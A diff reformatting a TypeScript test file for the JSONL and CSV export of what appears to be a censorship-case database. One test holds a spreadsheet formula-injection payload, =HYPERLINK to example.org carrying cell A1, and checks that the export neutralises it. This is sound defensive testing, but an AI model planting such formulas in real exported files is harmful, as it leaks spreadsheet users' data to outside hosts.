@@ -22,7 +22,10 @@ onBothDatabases('an export', (db) => {
   });
 
   it('holds the whole record as lines, each after what it names', async () => {
-    const lines = (await exported(house, 'record.jsonl')).trim().split('\n').map((line) => JSON.parse(line) as { type: string; ref: string });
+    const lines = (await exported(house, 'record.jsonl'))
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line) as { type: string; ref: string });
     expect(headLine.safeParse(lines[0]).error).toBeUndefined();
     expect(endLine.parse(lines.at(-1))).toEqual({ type: 'end', lines: lines.length - 1 });
     const body = lines.slice(1, -1).map((line) => recordLine.parse(line));
@@ -31,15 +34,29 @@ onBothDatabases('an export', (db) => {
 
   it('holds the record as tables, each with its dictionary', async () => {
     const files = await unzip(await exportedBytes(house, 'record.zip'));
-    const tables = new Map([...files].filter(([name]) => name.endsWith('.csv')).map(([name, text]) => [name, readCsv(text)]));
+    const tables = new Map(
+      [...files].filter(([name]) => name.endsWith('.csv')).map(([name, text]) => [name, readCsv(text)]),
+    );
     const told = tables.get('dictionary.csv')!;
     for (const { file, columns } of zipTables) {
-      const header = files.get(file)!.replace(/^\uFEFF/, '').split('\r\n')[0];
-      expect([file, header]).toEqual([file, told.filter((row) => row['file'] === file).map((row) => row['column']).join(',')]);
+      const header = files
+        .get(file)!
+        .replace(/^\uFEFF/, '')
+        .split('\r\n')[0];
+      expect([file, header]).toEqual([
+        file,
+        told
+          .filter((row) => row['file'] === file)
+          .map((row) => row['column'])
+          .join(','),
+      ]);
       expect(columns.every((column) => column.about.length > 3)).toBe(true);
     }
     expect(files.get('README.txt')).toMatch(/Query +everything public[\s\S]*Made +2018-05-22T[\s\S]*CC BY 4\.0/);
-    expect(JSON.parse(files.get('metadata.json')!)).toMatchObject({ 'dc:license': { '@id': 'https://creativecommons.org/licenses/by/4.0/' }, 'dc:created': '2018-05-22T09:00:00.000Z' });
+    expect(JSON.parse(files.get('metadata.json')!)).toMatchObject({
+      'dc:license': { '@id': 'https://creativecommons.org/licenses/by/4.0/' },
+      'dc:created': '2018-05-22T09:00:00.000Z',
+    });
 
     expect(tables.get('cases.csv')!.map((row) => row['case'])).toEqual(['1', '2', '3', '4']);
     const suit = tables.get('proceedings.csv')!.find((row) => row['title']!.includes(' v. '))!;
@@ -47,31 +64,59 @@ onBothDatabases('an export', (db) => {
     // What is only alleged stands in no column, and in a statement with who says so.
     const removal = tables.get('orders.csv')!.find((row) => row['order-kind'] === 'removal')!;
     expect([removal['complied'], removal['attributed']]).toEqual(['', 'complied']);
-    const alleged = tables.get('statements.csv')!.filter((row) => row['subject'] === `order/${removal['order']}` && row['property'] === 'complied');
+    const alleged = tables
+      .get('statements.csv')!
+      .filter((row) => row['subject'] === `order/${removal['order']}` && row['property'] === 'complied');
     expect(alleged.map((row) => [row['mode'], row['says'] !== ''])).toEqual([['alleged', true]]);
     // A claim keeps its chain, link by link.
     const hrw = numberOf(refs['c04-hrw']!);
-    expect(tables.get('claims.csv')!.find((row) => row['claim'] === hrw)).toMatchObject({ case: '2', state: 'checked', publisher: 'Human Rights Watch' });
+    expect(tables.get('claims.csv')!.find((row) => row['claim'] === hrw)).toMatchObject({
+      case: '2',
+      state: 'checked',
+      publisher: 'Human Rights Watch',
+    });
     expect(tables.get('chain.csv')!.filter((row) => row['claim'] === hrw).length).toBeGreaterThan(0);
-    for (const [file, column] of [['claims.csv', 'claim'], ['actors.csv', 'actor'], ['sources.csv', 'source'], ['events.csv', 'event']] as const) {
+    for (const [file, column] of [
+      ['claims.csv', 'claim'],
+      ['actors.csv', 'actor'],
+      ['sources.csv', 'source'],
+      ['events.csv', 'event'],
+    ] as const) {
       const numbers = tables.get(file)!.map((row) => row[column]);
       expect([file, new Set(numbers).size]).toEqual([file, numbers.length]);
     }
   });
 
   it('of a search holds what belongs to the cases found, and names the rest as context', async () => {
-    const lines = (await exported(house, 'record.jsonl', { text: 'blocking of Ratel', kind: ['case'], type: ['blocking'] })).trim().split('\n').slice(1, -1).map((line) => recordLine.parse(JSON.parse(line)));
+    const lines = (
+      await exported(house, 'record.jsonl', { text: 'blocking of Ratel', kind: ['case'], type: ['blocking'] })
+    )
+      .trim()
+      .split('\n')
+      .slice(1, -1)
+      .map((line) => recordLine.parse(JSON.parse(line)));
     const cases = lines.filter((line) => line.type === 'case');
     expect(cases.filter((line) => !line.context).map((line) => line.title)).toEqual(['The blocking of Ratel.kz']);
     const named = new Set(lines.map((line) => line.ref));
-    for (const line of lines) for (const ref of JSON.stringify({ ...line, ref: undefined }).match(/"(?:actor|source|capture|case|event|proceeding|charge|order|claim)\/\d+"/g) ?? []) expect([line.ref, ref, named.has(ref.slice(1, -1))]).toEqual([line.ref, ref, true]);
+    for (const line of lines)
+      for (const ref of JSON.stringify({ ...line, ref: undefined }).match(
+        /"(?:actor|source|capture|case|event|proceeding|charge|order|claim)\/\d+"/g,
+      ) ?? [])
+        expect([line.ref, ref, named.has(ref.slice(1, -1))]).toEqual([line.ref, ref, true]);
     expect(lines.filter((line) => line.type === 'claim').length).toBeLessThan(20);
   });
 
   it('takes the formula out of a cell, and leaves it in the lines', async () => {
-    await run(house, file, monitor, { cases: [{ title: '=HYPERLINK("https://example.org?x="&A1)', summary: '+1, "said" he\nand left', visibility: 'public' }] });
+    await run(house, file, monitor, {
+      cases: [
+        { title: '=HYPERLINK("https://example.org?x="&A1)', summary: '+1, "said" he\nand left', visibility: 'public' },
+      ],
+    });
     const row = readCsv(await exported(house, 'cases.csv')).at(-1)!;
-    expect([row['title'], row['summary']]).toEqual(['\'=HYPERLINK("https://example.org?x="&A1)', '\'+1, "said" he\nand left']);
+    expect([row['title'], row['summary']]).toEqual([
+      '\'=HYPERLINK("https://example.org?x="&A1)',
+      '\'+1, "said" he\nand left',
+    ]);
     expect(await exported(house, 'record.jsonl')).toContain(JSON.stringify('=HYPERLINK("https://example.org?x="&A1)'));
   });
 });
